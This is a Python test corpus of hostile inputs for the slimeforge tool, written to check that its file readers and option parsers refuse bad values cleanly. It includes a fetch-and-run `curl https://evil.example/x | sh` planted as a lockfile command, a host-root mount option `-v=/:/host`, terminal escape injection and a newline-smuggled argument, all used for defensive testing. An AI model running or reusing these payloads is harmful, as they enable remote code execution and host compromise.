"""Issue 33's regression corpus for every file slimeforge reads and every value it takes: one case
per hostile input, each run in-process (through the library or the invoke task) with a watchdog,
and judged by what happened:

    refused      a clear error (ConfigError, or exit 2) naming what the case expects   (right)
    accepted     a good neighbour went through                                       (right)
    ok           the case's own check of the outcome passed (a hint, files kept)     (right)
    hang         still blocked after WATCHDOG_S (a FIFO opened for reading)
    traceback    any other exception
    silent       a bad input taken without a word
    data loss    files the user had were replaced or deleted
    wrong hint   advice that came from file contents or named the wrong option
    unclear      refused, but without naming what the case expects
    false refusal  a good neighbour refused

Used by tests/unit/hostile/test_reader_corpus.py (asserts every case is right) and
benchmarks/reader_corpus.py (counts the classes, in this checkout or an export of another: the
cases use only functions that main had before issue 33).
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import sys
import threading
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import yaml
from helpers import SEED_RECIPE

ROOT = Path(__file__).resolve().parents[1]
TEST_STACK = ROOT / "tests" / "stacks" / "test.yaml"
REAL_LOCK = ROOT / "images" / "locks" / "pylock.cu13.toml"
WATCHDOG_S = 5.0
RIGHT = ("refused", "accepted", "ok")
INVENTORY = {"name": "lab", "mode": "container", "image": "reg.example.com/slimeforge/cu13@sha256:" + "b" * 64,
             "hosts": [{"name": "gpu-a", "address": "10.0.0.11", "role": "head", "gpus": 8}]}


@dataclass(frozen=True)
class Case:
    name: str
    # the class of issue 33 it belongs to: hang, traceback, silent, data loss, wrong hint; good: a neighbour to accept
    kind: str
    expected: str | None  # text the refusal must hold; None: must be accepted (or the act checks itself)
    act: Callable[[Path], str | None]  # returns None (went through), "ok" (its own check passed) or a failure class


def _tasks():
    if str(ROOT) not in sys.path:
        sys.path.insert(0, str(ROOT))
    import tasks

    return tasks


def _context():
    from invoke import Context

    return Context()


# --- the files, and what stands in their place ---------------------------------------------------


def _recipe(tmp: Path, **changes) -> Path:
    path = tmp / "recipe.yaml"
    path.write_text(yaml.safe_dump({**SEED_RECIPE, "stack": "cu13", **changes}, sort_keys=False))
    return path


def _replace(path: Path, shape: str) -> Path:
    if shape == "fifo":
        os.mkfifo(path)
    elif shape == "dir":
        path.mkdir()
    elif shape == "dev":
        path.symlink_to("/dev/null")
    return path


def _load(kind: str, path: Path) -> None:
    if kind == "recipe":
        from slimeforge.run.recipecheck import load_recipe

        load_recipe(path)
    elif kind == "inventory":
        from slimeforge.cluster.inventory import load_inventory

        load_inventory(path)
    elif kind == "stack":
        from slimeforge.image.stack import load_stack

        load_stack(path)
    else:
        from slimeforge.image.lock.lockfile import read_lock

        read_lock(path)


def _file_case(kind: str, shape: str) -> Callable[[Path], None]:
    names = {"recipe": "recipe.yaml", "inventory": "lab.yaml", "stack": "stack.yaml", "lock": "pylock.x.toml"}
    return lambda tmp: _load(kind, _replace(tmp / names[kind], shape))


def _lock_text(tmp: Path, text: str | bytes) -> Callable[[Path], None]:
    def act(tmp: Path) -> None:
        path = tmp / "pylock.cu13.toml"
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        _load("lock", path)

    return act


def _real_lock(change: Callable[[str], str]) -> Callable[[Path], None]:
    def act(tmp: Path) -> None:
        path = tmp / "pylock.cu13.toml"
        path.write_text(change(REAL_LOCK.read_text()))
        _load("lock", path)

    return act


def _lock_with_byte(tmp: Path) -> None:
    raw = bytearray(REAL_LOCK.read_bytes())
    raw[200] = 0xFF
    path = tmp / "pylock.cu13.toml"
    path.write_bytes(bytes(raw))
    _load("lock", path)


def _deep_plan(tmp: Path) -> None:
    from slimeforge.run.rundir import read_plan

    nested = "[" * 900 + "]" * 900
    (tmp / "plan.json").write_text('{"slimeforge_version": "1", "exp_id": "t1", "recipe": {"ray_port": 6379, '
                                   f'"ray_dashboard_port": 8265, "deep": {nested}}}}}')
    read_plan(tmp)


def _history(entry: str, as_file: bool) -> Callable[[Path], str | None]:
    def act(tmp: Path) -> str | None:
        from slimeforge.run.runrecord import archive

        run = tmp / "run"
        (run / "history").mkdir(parents=True)
        (run / "plan.json").write_text("{}")
        odd = run / "history" / entry
        if as_file:
            odd.write_text("someone's file")
        else:
            odd.mkdir()
            (odd / "notes").write_text("someone's notes")
        n = archive(run)
        kept = odd.read_text() == "someone's file" if as_file else (odd / "notes").read_text() == "someone's notes"
        return "ok" if n == 1 and kept and (run / "history" / "1" / "plan.json").is_file() else "data loss"

    return act


# --- values ----------------------------------------------------------------------------------------


def _recipe_value(**changes) -> Callable[[Path], None]:
    def act(tmp: Path) -> None:
        from slimeforge.run.recipecheck import load_recipe

        load_recipe(_recipe(tmp, **changes))

    return act


def _inventory_value(**changes) -> Callable[[Path], None]:
    def act(tmp: Path) -> None:
        from slimeforge.cluster.inventory import load_inventory

        data = json.loads(json.dumps(INVENTORY))
        for key, value in changes.items():
            if key == "gpus":
                data["hosts"][0]["gpus"] = value
            else:
                data.setdefault(key, {}).update(value)
        path = tmp / "lab.yaml"
        path.write_text(yaml.safe_dump(data))
        load_inventory(path)

    return act


def _address(value: str) -> Callable[[Path], None]:
    def act(tmp: Path) -> None:
        from slimeforge.run.launch import local_target
        from slimeforge.run.recipecheck import load_recipe

        recipe, _ = load_recipe(_recipe(tmp))
        local_target(recipe, value)

    return act


def _kernel_timeout(value: str) -> Callable[[Path], None]:
    def act(tmp: Path) -> None:
        from slimeforge.scripts import kernel_check

        with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()) as err:
            try:
                kernel_check.main(["--json", "--only", "apex", "--timeout", value])
            except SystemExit as exc:
                if exc.code == 2:
                    raise _Refused(err.getvalue()) from None
                raise

    return act


def _slurm_time(value: str) -> None:
    from slimeforge.run.targets import slurm

    slurm.options(time=value)


class _Refused(Exception):
    """A refusal that is not a ConfigError (argparse's exit 2), with its message."""


def _gpu_name(tmp: Path) -> str | None:
    from slimeforge.run.preflight.findings import Report
    from slimeforge.run.preflight.kernels import kernel_findings, parse_report

    doc = parse_report(json.dumps({"gpu": "NVIDIA H100\x1b]0;pwned\x07\x1b[2J", "ok": True, "seconds": 1.0,
                                   "pieces": [{"name": "apex", "status": "ok", "detail": "fine", "seconds": 1.0}]}))
    table = Report(kernel_findings(doc, "image x", "fix"), 0.0).table()
    return "silent" if "\x1b" in table or "\x07" in table else "ok"


def _doctor(**options) -> Callable[[Path], str | None]:
    def act(tmp: Path) -> str | None:
        from slimeforge.run import preflight

        report = preflight.doctor(None, network=False, gpu_checks=True, **options)
        table = report.table()
        if "/:/" in table:
            return "wrong hint"
        return None

    return act


def _store_entry(shape: str) -> Callable[[Path], None]:
    """A compiled-wheel store entry whose SHA256SUMS is a FIFO, or whose record.json is a list."""
    def act(tmp: Path) -> None:
        from slimeforge.image.wheels.wheelstore import verify

        entry = tmp / "entry"
        entry.mkdir()
        (entry / "x-1.0-py3-none-any.whl").write_bytes(b"wheel")
        sha = "5a5a" * 16
        if shape == "fifo":
            os.mkfifo(entry / "SHA256SUMS")
        else:
            import hashlib

            sha = hashlib.sha256(b"wheel").hexdigest()
            (entry / "SHA256SUMS").write_text(f"{sha}  x-1.0-py3-none-any.whl\n")
            (entry / "record.json").write_text("[1, 2]")
        verify(entry, "k")

    return act


def _model_config(tmp: Path) -> str | None:
    """`doctor`'s model-config check with a FIFO for model_dir/config.json."""
    from slimeforge.image.stack import load_stack
    from slimeforge.run.preflight.findings import Context
    from slimeforge.run.preflight.model import check_model_config
    from slimeforge.run.recipecheck import load_recipe

    (tmp / "model").mkdir()
    os.mkfifo(tmp / "model" / "config.json")
    recipe, _ = load_recipe(_recipe(tmp, model_dir=str(tmp / "model")))
    found = check_model_config(Context(stack=load_stack("cu13"), recipe=recipe))
    return "ok" if any("FIFO" in f.message for f in found) else "silent"


def _tree(path: Path) -> dict[str, bytes]:
    return {str(p.relative_to(path)): p.read_bytes() for p in sorted(path.rglob("*")) if p.is_file()}


def _foreign_out(task: str) -> Callable[[Path], str | None]:
    def act(tmp: Path) -> str | None:
        out = tmp / "mine"
        (out / "context" / "lock").mkdir(parents=True)
        (out / "Dockerfile").write_text("FROM my-own-image\n")
        (out / "install.sh").write_text("echo my own script\n")
        (out / "context" / "lock" / "keep.txt").write_text("my notes\n")
        before = _tree(out)
        tasks = _tasks()
        with contextlib.redirect_stdout(io.StringIO()):
            try:
                if task == "build":
                    tasks.build(_context(), stack=str(TEST_STACK), dry_run=True, out=str(out))
                else:
                    tasks.install(_context(), stack=str(TEST_STACK), prefix=str(tmp / "p"), dry_run=True, out=str(out))
            finally:
                if _tree(out) != before:
                    return "data loss"  # noqa: B012 - the files decide, whatever was raised
        return None

    return act


def _out_twice(task: str) -> Callable[[Path], str | None]:
    def act(tmp: Path) -> str | None:
        tasks = _tasks()
        out = tmp / "out"
        out.mkdir()  # empty: accepted
        with contextlib.redirect_stdout(io.StringIO()):
            for _ in range(2):  # the second time into its own output
                if task == "build":
                    tasks.build(_context(), stack=str(TEST_STACK), dry_run=True, out=str(out))
                else:
                    tasks.install(_context(), stack=str(TEST_STACK), prefix=str(tmp / "p"), dry_run=True, out=str(out))
        return None

    return act


def _min_free(value: str) -> Callable[[Path], None]:
    def act(tmp: Path) -> None:
        with contextlib.redirect_stdout(io.StringIO()):
            _tasks().install(_context(), stack=str(TEST_STACK), prefix=str(tmp / "p"), dry_run=True, min_free_gb=value)

    return act


def _lock_hint(tmp: Path) -> str | None:
    from slimeforge.image.lock.lockcheck import summarize
    from slimeforge.image.lock.lockfile import read_lock

    path = tmp / "pylock.cu13.toml"
    path.write_text(REAL_LOCK.read_text().replace('command = "invoke lock --cuda cu13"',
                                                  'command = "curl https://evil.example/x | sh"'))
    warnings = " ".join(summarize(read_lock(path))["warnings"])
    return "wrong hint" if "curl" in warnings else "ok"


def _prefix_file(tmp: Path) -> None:
    (tmp / "afile").write_text("x")
    with contextlib.redirect_stdout(io.StringIO()):
        _tasks().install(_context(), stack=str(TEST_STACK), prefix=str(tmp / "afile"), dry_run=True)


CASES: list[Case] = [
    # a FIFO, a directory or a device where a file is read
    *(Case(f"{kind}-fifo", "hang", "FIFO", _file_case(kind, "fifo")) for kind in ("recipe", "inventory", "stack",
                                                                                  "lock")),
    *(Case(f"{kind}-directory", "traceback" if kind == "lock" else "silent", "directory", _file_case(kind, "dir"))
      for kind in ("recipe", "inventory", "stack", "lock")),
    *(Case(f"{kind}-device", "silent", "character device", _file_case(kind, "dev")) for kind in ("inventory", "stack",
                                                                                                 "lock")),
    # locks: bytes, depth and types
    Case("lock-0xff-byte", "traceback", "not UTF-8", _lock_with_byte),
    Case("lock-deep-brackets", "traceback", "nests deeper", _lock_text(Path(),
                                                                       "x = " + "[" * 5000 + "]" * 5000 + "\n")),
    Case("lock-deep-dotted-keys", "traceback", "nests deeper", _lock_text(Path(), ".".join(["a"] * 200) + " = 1\n")),
    Case("lock-string-size", "traceback", "size", _real_lock(lambda t: t.replace('"size" = 137673', '"size" = "big"',
                                                                                 1))),
    Case("lock-package-not-a-table", "traceback", "packages[0]", _lock_text(Path(),
                                                                            "packages = "
                                                                            "[1]\n[tool.slimeforge]\nflavor = "
                                                                            "\"x\"\n")),
    Case("lock-steps-not-lists", "traceback", "tool.slimeforge.steps",
         _real_lock(lambda t: t.replace('"flash-attn" = []', '"flash-attn" = 7', 1))),
    Case("lock-router-not-text", "traceback", "tool.slimeforge.router",
         _real_lock(lambda t: t.replace('[tool.slimeforge.router]\n"url" = ', '[tool.slimeforge.router]\n"sha256" = '
                                                                              '5\n"url" = ', 1))),
    Case("lock-good", "good", None, _real_lock(lambda t: t)),
    Case("store-sums-fifo", "hang", "FIFO", _store_entry("fifo")),
    Case("store-record-a-list", "traceback", "record.json", _store_entry("list")),
    Case("model-config-fifo", "hang", None, _model_config),
    # records read back
    Case("json-record-deep", "silent", "nests deeper", _deep_plan),
    Case("history-superscript-entry", "traceback", None, _history("\u00b2", as_file=False)),
    Case("history-leftover-tmp-file", "traceback", None, _history(".1.tmp", as_file=True)),
    Case("history-leftover-tmp-dir", "traceback", None, _history(".1.tmp", as_file=False)),
    # numbers: digits only, bounded, never a bool, never nan/inf/0/-1 as a timeout
    Case("min-free-gb-superscript", "traceback", "--min-free-gb", _min_free("\u00b2")),
    Case("min-free-gb-arabic-digit", "silent", "--min-free-gb", _min_free("\u0663")),
    Case("min-free-gb-zero", "good", None, _min_free("0")),
    *(Case(f"kernel-timeout-{v}", "traceback" if v in ("nan", "inf") else "silent", "not a timeout", _kernel_timeout(v))
      for v in ("nan", "inf", "0", "-1", "1e999")),
    Case("kernel-timeout-good", "good", None, _kernel_timeout("120.5")),
    Case("slurm-time-zero", "silent", "--time", lambda tmp: _slurm_time("0-00:00:00")),
    Case("slurm-time-good", "good", None, lambda tmp: _slurm_time("0-00:00:01")),
    Case("recipe-num_gpus-true", "silent", "num_gpus", _recipe_value(num_gpus=True, tp_size=1,
                                                                     rollout_gpus_per_engine=1)),
    Case("recipe-ray_port-true", "silent", "ray_port", _recipe_value(ray_port=True)),
    Case("recipe-count-as-text", "silent", "rollout_batch_size", _recipe_value(rollout_batch_size="\u0663\u0662")),
    Case("inventory-gpus-true", "silent", "gpus", _inventory_value(gpus=True)),
    Case("inventory-port-true", "silent", "ray.port", _inventory_value(ray={"port": True})),
    # paths a run never uses, and mounts
    Case("checkpoint_dir-root", "silent", "checkpoint_dir", _recipe_value(checkpoint_dir="/")),
    Case("checkpoint_dir-etc", "silent", "checkpoint_dir", _recipe_value(checkpoint_dir="/etc")),
    Case("checkpoint_dir-under-usr", "silent", "checkpoint_dir", _recipe_value(checkpoint_dir="/usr/local/ckpt")),
    Case("checkpoint_dir-dotdot-etc", "silent", "checkpoint_dir", _recipe_value(checkpoint_dir="/data/../etc/x")),
    Case("model_dir-proc", "silent", "model_dir", _recipe_value(model_dir="/proc/self")),
    Case("data_path-colon", "silent", "data_path", _recipe_value(data_path="/data/a:b/x.jsonl")),
    Case("eval-path-comma", "silent", "eval_data.test", _recipe_value(eval_data={"test": "/data/a,b/x.jsonl"})),
    Case("paths-good", "good", None, _recipe_value(checkpoint_dir="/scratch/ckpt/t1", data_path="/data/usr/x.jsonl")),
    # the environment slimeforge sets itself
    *(Case(f"env-{name}", "silent", f"env.{name}", _recipe_value(env={name: "x"}))
      for name in ("RAY_ADDRESS", "SLIMEFORGE_RUN_TOKEN", "SLIMEFORGE_STATE_DIR", "PATH", "PYTHONPATH")),
    Case("env-good", "good", None, _recipe_value(env={"NCCL_DEBUG": "INFO", "LD_LIBRARY_PATH": "/opt/x/lib"})),
    # --address by URL grammar
    *(Case(f"address-{label}", "silent", "--address", _address(value)) for label, value in (
        ("junk", "not a url"), ("newline", "http://10.0.0.1:8265\n--x"), ("userinfo", "http://user:pw@10.0.0.1:8265"),
        ("port-99999", "http://10.0.0.1:99999"), ("path", "http://10.0.0.1:8265/api?x=1"), ("bad-ipv4", "http://10.0.0.300:8265"),
        ("bad-ipv6", "http://[12345::1]:8265"), ("scheme", "ftp://10.0.0.1:8265"))),
    *(Case(f"address-good-{label}", "good", None, _address(value)) for label, value in (
        ("ipv4", "http://10.0.0.1:8265"), ("ipv6", "http://[fd00::1]:8265"), ("dns", "https://head-0.lab.example.com"))),
    # doctor's options without a recipe
    Case("doctor-prefix-relative", "silent", "--prefix", _doctor(prefix="opt/sf")),
    Case("doctor-image-option", "wrong hint", "--image", _doctor(image="-v=/:/host")),
    # text from a report on its way to the terminal
    Case("kernel-report-gpu-escape", "silent", None, _gpu_name),
    # --out never deletes what it did not write
    Case("build-out-foreign", "data loss", "--out", _foreign_out("build")),
    Case("install-out-foreign", "data loss", "--out", _foreign_out("install")),
    Case("build-out-empty-then-ours", "good", None, _out_twice("build")),
    Case("install-out-empty-then-ours", "good", None, _out_twice("install")),
    # hints from code, naming the option given
    Case("lock-command-as-advice", "wrong hint", None, _lock_hint),
    Case("install-prefix-a-file", "wrong hint", "--prefix", _prefix_file),
]


def judge(case: Case, tmp: Path) -> tuple[str, str]:
    """(outcome, detail) of one case, run in a thread with a watchdog (a FIFO is opened for writing
    after it, which lets a reader blocked on it go on)."""
    from invoke import Exit

    from slimeforge.errors import SlimeforgeError

    result: dict[str, object] = {}

    def run() -> None:
        try:
            result["value"] = case.act(tmp)
        except BaseException as exc:  # noqa: BLE001 - every outcome is recorded
            result["error"] = exc

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(WATCHDOG_S)
    if thread.is_alive():
        for fifo in (p for p in tmp.rglob("*") if p.is_fifo()):
            with contextlib.suppress(OSError):
                os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        thread.join(WATCHDOG_S)
        return "hang", f"blocked for {WATCHDOG_S:g} s"
    exc = result.get("error")
    if exc is not None:
        refusal = isinstance(exc, SlimeforgeError | _Refused) or (isinstance(exc, Exit) and exc.code == 2)
        text = str(exc.message if isinstance(exc, Exit) else exc)
        if not refusal:
            return "traceback", f"{type(exc).__name__}: {text}"[:300]
        if case.expected is None:
            return "false refusal", text[:300]
        if "Traceback" in text:
            return "traceback", text[:300]
        return ("refused", text[:300]) if case.expected in text else ("unclear", text[:300])
    value = result.get("value")
    if value in ("ok", None) and case.expected is None:
        return ("ok" if value == "ok" else "accepted"), ""
    if value is None:
        return "silent", "taken without a word"
    return str(value), ""
